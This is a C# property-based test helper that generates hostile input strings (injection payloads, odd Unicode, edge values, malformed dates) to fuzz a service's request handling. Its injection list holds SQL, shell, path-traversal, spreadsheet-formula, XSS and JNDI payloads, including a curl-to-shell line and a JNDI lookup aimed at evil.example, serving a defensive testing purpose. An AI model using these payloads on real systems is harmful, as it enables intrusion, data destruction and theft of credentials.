using FsCheck;
using FsCheck.Fluent;

namespace CaseFlow.Host.Tests.Hostile;

/// <summary>The strings a hostile caller puts where text, identifiers, dates and numbers belong.</summary>
internal static class HostileText
{
    /// <summary>SQL, shell, path, spreadsheet-formula, HTML and template injection.</summary>
    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE events; --", "\"; DROP TABLE cases; --", "1; DELETE FROM outbox", "' UNION SELECT password_hash FROM accounts --",
        "$(rm -rf /)", "`id`", "| cat /etc/passwd", "; shutdown -h now", "&& curl http://evil.example/x | sh",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/dev/zero", "CON", "file:///etc/shadow",
        "=HYPERLINK(\"http://evil.example\",\"点我\")", "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "\\u0000", "{\"$where\": \"1==1\"}",
    ];

    /// <summary>NUL and control characters, bidirectional overrides, zero-width characters, combining marks, emoji, lone surrogates.</summary>
    public static readonly string[] OddUnicode =
    [
        "\0", "a\0b", "command-room\0", "\u0001\u0002\u0003", "\u001b[31mred\u001b[0m", "\u007f", "\u0085", "\u2028\u2029", "line\r\nX-Injected: 1",
        "\u202Eevil.exe\u202C", "\u202B\u05e9\u05dc\u05d5\u05dd", "\u2066isolate\u2069", "\u200F\u200E", "demolition\u200B-office", "\u200D", "\uFEFF",
        "\u2060", "e" + new string('\u0301', 300), "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358", "👩‍👩‍👧‍👦", "😀😃😄", "🏳️‍🌈",
        "\uD800", "\uDC00x", "x\uD83D", "\uDBFF\uDBFF", "Ｗｉｄｅ ｔｅｘｔ", "İıŞş", "\uFFFF", "\uFFFE", "ﷺ", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊", "村口\u200B违建",
    ];

    /// <summary>Empty, blank and look-alike values of other types.</summary>
    public static readonly string[] Edges =
    [
        "", " ", "   \t  ", "null", "undefined", "NaN", "Infinity", "-1", "0", "true", "[]", "{}", "-0", "1e309",
        "99999999999999999999999999999999", "0x7fffffff", "%", "%zz", "%00", "%C0%AF", "%ED%A0%80", "\\", "\"", "'",
    ];

    /// <summary>Dates, instants and periods out of range or malformed, with a few good ones so that the rest of a request is read.</summary>
    public static readonly string[] Dates =
    [
        "0001-01-01", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31", "9999-12-31T23:59:59.9999999-14:00", "10000-01-01",
        "-0001-01-01", "2026-02-30", "2026-13-01", "2026-00-10", "2026-11-31", "2026-11-30T25:61:61", "0001-01", "9999-12", "2026-13", "2026-00",
        "2026-W99", "１９７０-０１-０１", "20261130", "2026/11/30", "30.11.2026", "Nov 30 2026", "yesterday", "1e10", "1970-01-01", "2038-01-19T03:14:08Z",
        "2026-11-01", "2026-11-23", "2026-11", "2026-11-27T10:00:00+08:00", "2026", "0", "-1", "9999", "10000", "2147483648",
    ];

    /// <summary>Any hostile string: injections, odd Unicode, edges, dates, or long text.</summary>
    public static Gen<string> Any() => Gen.Frequency(
        (5, Gen.Elements(Injections)),
        (5, Gen.Elements(OddUnicode)),
        (3, Gen.Elements(Edges)),
        (2, Gen.Elements(Dates)),
        (1, Long()));

    /// <summary>Text from a few kilobytes to a hundred thousand characters, of one repeated unit.</summary>
    public static Gen<string> Long() =>
        from unit in Gen.Elements("a", "字", "😀", "\u200B", "'", "<", "e\u0301")
        from count in Gen.Elements(2_000, 20_000, 100_000)
        select string.Concat(Enumerable.Repeat(unit, count));

    /// <summary>A real value now and then (so that the rest of a request is read), a hostile one otherwise.</summary>
    public static Gen<string> OrReal(IReadOnlyList<string> real) => real.Count == 0
        ? Any()
        : Gen.Frequency((2, Gen.Elements(real.ToArray())), (3, Any()), (1, Disguised(real)));

    /// <summary>A real value dressed up: padded, upper-cased, with a zero-width space, a NUL or a bidi override inside.</summary>
    public static Gen<string> Disguised(IReadOnlyList<string> real) =>
        from value in Gen.Elements(real.ToArray())
        from dress in Gen.Elements<Func<string, string>>(
            v => $" {v} ", v => v.ToUpperInvariant(), v => v + "\u200B", v => v + "\0", v => "\u202E" + v, v => v + "'--", v => v + "/../" + v)
        select dress(value);

    /// <summary>A value for a URL: its UTF-8 percent-encoded (lone surrogates become U+FFFD), or a raw escape a client would not make.</summary>
    public static string ForUrl(string value) => value switch
    {
        "%" or "%zz" or "%00" or "%C0%AF" or "%ED%A0%80" => value,
        _ => Uri.EscapeDataString(ReplaceLoneSurrogates(value)),
    };

    /// <summary>A value as a header can carry it: line breaks would be refused by the HTTP client itself, so they become spaces.</summary>
    public static string ForHeader(string value) => ReplaceLoneSurrogates(value).Replace('\r', ' ').Replace('\n', ' ').Replace('\0', ' ');

    private static string ReplaceLoneSurrogates(string value)
    {
        var chars = value.ToCharArray();
        for (var i = 0; i < chars.Length; i++)
        {
            if (char.IsHighSurrogate(chars[i]) && i + 1 < chars.Length && char.IsLowSurrogate(chars[i + 1]))
            {
                i++;
            }
            else if (char.IsSurrogate(chars[i]))
            {
                chars[i] = '\uFFFD';
            }
        }

        return new string(chars);
    }
}
